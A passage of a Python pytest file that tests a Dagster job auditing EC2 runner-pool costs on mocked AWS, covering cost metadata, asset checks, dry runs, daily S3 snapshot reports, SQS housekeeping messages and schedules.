        "total_compute_cost_usd_per_hour",
        "total_idle_cost_usd_per_hour",
        "utilization_pct",
        "pools_with_problems",
    ]
    assert not {"busy", "cloudwatch_calls", "compute_seconds"} & set(meta)
    per_pool = meta["per_pool"].value
    assert isinstance(per_pool, dg.TableMetadataValue)
    assert len(per_pool.schema.columns) <= 4, "the asset page shows a table of at most 4 columns inline"
    small = next(r.data for r in per_pool.records if r.data["pool"] == "small")
    assert small == {"pool": "small", "compute USD/h": 0.08, "idle USD/h": 0.02, "busy/idle": "3/1"}
    problems = [r.data["left out of the totals because"] for r in meta["problems"].value.records]
    assert any("x9.huge is not in the price list" in p for p in problems)
    assert meta["snapshot"].value.startswith(f"s3://{aws.env['RUNS_FLEET_ARCHIVE_BUCKET']}/pool-audit/snapshots/")
    checks = {e.check_name: e for e in result.get_asset_check_evaluations()}
    assert checks[CHECK_IDLE_COST].passed  # well under 5 USD/h
    assert not checks[CHECK_DESIRED_IDLE].passed
    assert checks[CHECK_DESIRED_IDLE].metadata["pools"].value == ["gpu"]
    assert not checks[CHECK_KNOWN_POOLS].passed
    assert "ghost" in checks[CHECK_KNOWN_POOLS].metadata["instances"].value
    assert all(e.severity == dg.AssetCheckSeverity.WARN for e in checks.values())
    # make dev says which failures its demo causes on purpose (the retired pool), only those
    assert checks[CHECK_KNOWN_POOLS].metadata["demo"].value.startswith("the demo seeds this on purpose: ")
    assert checks[CHECK_KNOWN_POOLS].description.endswith("legacy-pool)")
    assert "demo" not in checks[CHECK_DESIRED_IDLE].metadata
    assert "demo" not in checks[CHECK_IDLE_COST].metadata

    strict = _materialize(  # production's: no notes
        aws, [pool_audit], run_config={"ops": {"pool_audit": {"config": {"idle_cost_threshold_usd_per_hour": 0.1}}}}
    )
    strict_checks = {e.check_name: e for e in strict.get_asset_check_evaluations()}
    assert not strict_checks[CHECK_IDLE_COST].passed
    assert not any("demo" in e.metadata or "demo seeds" in (e.description or "") for e in strict_checks.values())


@pytest.mark.slow
def test_dry_run_writes_nothing(aws):
    _seed_fleet(aws)
    result = _materialize(aws, [pool_audit], run_config={"ops": {"pool_audit": {"config": {"dry_run": True}}}})
    meta = result.asset_materializations_for_node("pool_audit")[0].metadata
    assert meta["dry_run"].value is True
    assert "snapshot" not in meta
    assert meta["counters"].value["cloudwatch_calls"] == 0
    s3 = aws.client("s3")
    assert s3.list_objects_v2(Bucket=aws.env["RUNS_FLEET_ARCHIVE_BUCKET"], Prefix="pool-audit/")["KeyCount"] == 0
    assert aws.client("cloudwatch").list_metrics(Namespace="RunsFleet")["Metrics"] == []


@pytest.mark.slow
def test_daily_report_reads_the_days_snapshots_and_renders_its_chart(aws):
    _seed_fleet(aws)
    ctx = _audit_ctx(aws)
    for at in ("2026-11-20T23:55", "2026-11-21T00:05", "2026-11-21T00:15", "2026-11-22T00:00"):
        run_pool_audit(ctx, prices=PRICES, now=dt.datetime.fromisoformat(at).replace(tzinfo=dt.UTC))
    # 2026-11-21: 23:55 covers 00:00-00:05, 00:05 covers 10 min, 00:15 covers 30 min (gap cap): 3/4 h.
    # Each snapshot: small 4 running (small4 runs in moto, busy) x 0.0208 + spotty 2 x 0.0595; idle: 1 small, 2 spotty.
    per_hour, idle_per_hour = 4 * 0.0208 + 2 * 0.0595, 1 * 0.0208 + 2 * 0.0595
    direct = build_daily_report(ctx, dt.date(2026, 11, 21))
    assert direct.totals["hours_covered"] == pytest.approx(0.75)
    assert direct.totals["snapshots"] == 3
    assert direct.totals["cost_usd"] == pytest.approx(0.75 * per_hour)
    assert direct.totals["idle_cost_usd"] == pytest.approx(0.75 * idle_per_hour)

    result = _materialize(aws, [pool_cost_report], partition_key="2026-11-21")
    meta = result.asset_materializations_for_node("pool_cost_report")[0].metadata
    assert meta["cost_usd"].value == round(0.75 * per_hour, 2)
    assert meta["idle_share_pct"].value == round(100 * idle_per_hour / per_hour, 1)
    chart = meta["chart"].value
    assert len(chart) < INLINE_MARKDOWN_LIMIT
    assert chart.startswith("```")
    assert "spotty" in chart
    assert "░" in chart
    assert [r.data["pool"] for r in meta["per_pool"].value.records][:2] == ["spotty", "small"]
    s3 = aws.client("s3")
    svg = s3.get_object(Bucket=ctx.archive_bucket, Key="pool-audit/reports/2026-11-21/chart.svg")["Body"].read()
    assert b"spotty" in svg
    assert ET.fromstring(svg) is not None
    s3.head_object(Bucket=ctx.archive_bucket, Key="pool-audit/reports/2026-11-21/report.csv")

    empty = _materialize(aws, [pool_cost_report], partition_key="2026-11-05")
    assert empty.asset_materializations_for_node("pool_cost_report")[0].metadata["snapshots"].value == 0


@pytest.mark.slow
def test_an_unreadable_snapshot_is_skipped_with_one_warning_and_the_others_are_reported(aws, caplog):
    _seed_fleet(aws)
    ctx, s3 = _audit_ctx(aws), aws.client("s3")
    for at in ("2026-11-21T00:05", "2026-11-21T00:15"):
        run_pool_audit(ctx, prices=PRICES, now=dt.datetime.fromisoformat(at).replace(tzinfo=dt.UTC))
    folder = "pool-audit/snapshots/2026-11-21/"
    good = [folder + "20261121T000500000Z.csv", folder + "20261121T001500000Z.csv"]
    header, first, *_ = s3.get_object(Bucket=ctx.archive_bucket, Key=good[1])["Body"].read().decode().splitlines()
    empty, cut, bad_time = (folder + f"20261121T00{m}00000Z.csv" for m in (20, 25, 30))
    s3.put_object(Bucket=ctx.archive_bucket, Key=empty, Body=b"")
    s3.put_object(Bucket=ctx.archive_bucket, Key=cut, Body=b"snapshot_at,pool,ki")  # cut short: columns missing
    bad_row = "not-a-time" + first[first.index(",") :]
    s3.put_object(Bucket=ctx.archive_bucket, Key=bad_time, Body=f"{header}\n{bad_row}\n".encode())
    report = build_daily_report(ctx, dt.date(2026, 11, 21))
    assert report.skipped == [empty, cut, bad_time]
    assert report.snapshot_keys == good
    # 00:05 covers 10 min, 00:15 covers 30 (the gap cap); small 4 running x 0.0208 + spotty 2 x 0.0595.
    assert report.totals["cost_usd"] == pytest.approx(40 / 60 * (4 * 0.0208 + 2 * 0.0595))
    warnings = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert (
        warnings[0]
        == f"pool cost report 2026-11-21: snapshot {empty} skipped, unreadable: No columns to parse from file"
    )
    assert warnings[1].startswith(f"pool cost report 2026-11-21: snapshot {cut} skipped, unreadable: ")
    assert warnings[2].startswith(f"pool cost report 2026-11-21: snapshot {bad_time} skipped, unreadable: ")
    assert warnings[2].endswith("not-a-time")
    assert len(warnings) == 3
    result = _materialize(aws, [pool_cost_report], partition_key="2026-11-21")
    meta = result.asset_materializations_for_node("pool_cost_report")[0].metadata
    assert meta["snapshots_skipped"].value == [empty, cut, bad_time]


def test_a_day_covered_for_seconds_shows_its_hours_not_zero(aws):
    _seed_fleet(aws)
    run_pool_audit(_audit_ctx(aws), prices=PRICES, now=dt.datetime(2026, 11, 21, 23, 59, 51, tzinfo=dt.UTC))
    result = _materialize(aws, [pool_cost_report], partition_key="2026-11-21")  # 9 s: 0.0025 h
    meta = result.asset_materializations_for_node("pool_cost_report")[0].metadata
    assert meta["snapshots"].value == 1
    assert meta["hours_covered"].value == 0.0025  # two significant digits under an hour, not 0.0


@pytest.mark.slow
def test_a_housekeeping_pool_audit_message_runs_the_audit_and_records_the_asset(aws):
    _seed_fleet(aws)
    sqs = aws.client("sqs")
    queue, dlq = aws.env["RUNS_FLEET_HOUSEKEEPING_QUEUE_URL"], aws.env["RUNS_FLEET_HOUSEKEEPING_DLQ_URL"]
    body = {"task_type": "pool_audit", "timestamp": "2026-11-22T10:00:00Z", "params": {}}
    sqs.send_message(QueueUrl=queue, MessageBody=json.dumps(body))
    bad = {"task_type": "pool_audit", "params": {"idle_cost_threshold_usd_per_hour": "lots"}}
    sqs.send_message(QueueUrl=queue, MessageBody=json.dumps(bad))
    defs = build_definitions("local")
    result = defs.resolve_job_def("process_housekeeping_queue").execute_in_process(
        run_config={"wait_seconds": 0}, instance=dg.DagsterInstance.ephemeral()
    )
    out = result.output_for_node("drain_housekeeping_queue")
    assert out["tasks_run"] == 1
    assert out["dead_lettered"] == 1
    mats = result.asset_materializations_for_node("drain_housekeeping_queue")
    assert [m.asset_key for m in mats] == [dg.AssetKey("pool_audit")]
    meta = mats[0].metadata
    assert meta["triggered_by"].value == "housekeeping message task_type=pool_audit"
    counters = meta["counters"].value
    assert (counters["running"], counters["busy"], counters["pools"]) == (6, 3, 5)
    snapshot = meta["snapshot"].value
    assert snapshot.startswith(f"s3://{aws.env['RUNS_FLEET_ARCHIVE_BUCKET']}/pool-audit/snapshots/")
    aws.client("s3").head_object(Bucket=aws.env["RUNS_FLEET_ARCHIVE_BUCKET"], Key=snapshot.split("/", 3)[3])
    evaluations = {e.check_name: e.passed for e in result.get_asset_check_evaluations()}
    assert evaluations == {CHECK_IDLE_COST: True, CHECK_DESIRED_IDLE: False, CHECK_KNOWN_POOLS: False}
    step = [e for e in result.all_events if e.event_type_value == "STEP_OUTPUT"][0]
    tasks_json = step.event_specific_data.metadata["tasks"].value
    assert [t["task_type"] for t in tasks_json] == ["pool_audit"]
    assert "_pool_audit_run" not in tasks_json[0]
    dead = sqs.receive_message(QueueUrl=dlq, MessageAttributeNames=["All"], WaitTimeSeconds=0)["Messages"]
    assert [json.loads(m["Body"]) for m in dead] == [bad]
    assert "idle_cost_threshold_usd_per_hour" in dead[0]["MessageAttributes"]["groundskeeper-reason"]["StringValue"]
    assert "not yet supported" not in dead[0]["MessageAttributes"]["groundskeeper-reason"]["StringValue"]

    one = defs.resolve_job_def("housekeeping").execute_in_process(
        run_config={"task_type": "pool_audit", "params": {"dryRun": True, "idle_cost_threshold_usd_per_hour": 0.0}},
        instance=dg.DagsterInstance.ephemeral(),
    )
    assert one.output_for_node("run_housekeeping_task")["dry_run"] is True
    meta = one.asset_materializations_for_node("run_housekeeping_task")[0].metadata
    assert meta["dry_run"].value is True
    assert "snapshot" not in meta
    assert {e.check_name: e.passed for e in one.get_asset_check_evaluations()}[CHECK_IDLE_COST] is False


def test_schedules_and_definitions():
    defs = build_definitions("prod")
    schedule = defs.resolve_schedule_def("pool_audit_schedule")
    assert schedule.cron_schedule == "*/10 * * * *"
    assert schedule.default_status == dg.DefaultScheduleStatus.RUNNING
    assert schedule.job_name == "pool_audit_job"
    context = dg.build_schedule_context(scheduled_execution_time=dt.datetime(2026, 11, 22, 1, 30, tzinfo=dt.UTC))
    requests = schedule.evaluate_tick(context).run_requests
    assert len(requests) == 1
    report = defs.resolve_schedule_def("pool_cost_report_schedule")
    with dg.DagsterInstance.ephemeral() as instance:
        context = dg.build_schedule_context(
            instance=instance,
            scheduled_execution_time=dt.datetime(2026, 11, 22, 0, 20, tzinfo=dt.UTC),
            repository_def=defs.get_repository_def(),
        )
        assert [r.partition_key for r in report.evaluate_tick(context).run_requests] == ["2026-11-21"]
    job = defs.resolve_job_def("pool_cost_report_job")
    with dg.DagsterInstance.ephemeral() as instance:
        keys = job.partitions_def.get_partition_keys(
            current_time=dt.datetime(2026, 11, 22, 9, 0, tzinfo=dt.UTC), dynamic_partitions_store=instance
        )
    assert keys[0] == "2026-11-01"
    assert keys[-1] == "2026-11-22"  # today so far is a partition too


def test_demo_traffic_gives_the_audit_idle_stopped_untagged_and_unknown_pool_instances(aws):
    import dataclasses

    from infra.demo.batching import RecordTraffic
    from infra.demo.fleet import FleetTraffic
    from infra.demo.reclaim import AgendaTraffic
    from infra.demo.traffic import DemoConfig, DemoTargets, run_demo_traffic

    clients = {name: aws.client(name) for name in ("dynamodb", "ec2", "ssm", "sqs")}
    targets = DemoTargets.from_env(aws.env)
    cfg = DemoConfig(
        reclaim=AgendaTraffic(new_agendas=1, stuck_agendas=0),
        fleet=FleetTraffic(jobs_started=3, jobs_finished=0, duplicate_messages=0, old_jobs=0, orphan_instances=0),
        batching=RecordTraffic(records=0),
        seed=3,
    )
    assert run_demo_traffic(targets=targets, cfg=cfg, **clients)["standing_instances_started"] == 6
    cfg = dataclasses.replace(cfg, seed=4)  # a new seed: new job ids
    assert run_demo_traffic(targets=targets, cfg=cfg, **clients)["standing_instances_started"] == 0  # idempotent
    run = run_pool_audit(_audit_ctx(aws), dry_run=True)
    rows = run.audit.table.set_index("pool")
    assert rows.loc["linux-small", "idle"] == 2
    assert rows.loc["linux-small", "stopped"] == 1
    assert rows.loc["linux-large", "idle"] == 1
    assert run.audit.totals["busy"] == 6  # the six demo jobs, on six running instances
    assert run.audit.totals["untagged_instances"] == 1
    assert run.audit.totals["unknown_pool_instances"] == 1
    assert run.audit.totals["idle_cost_usd_per_hour"] > 0
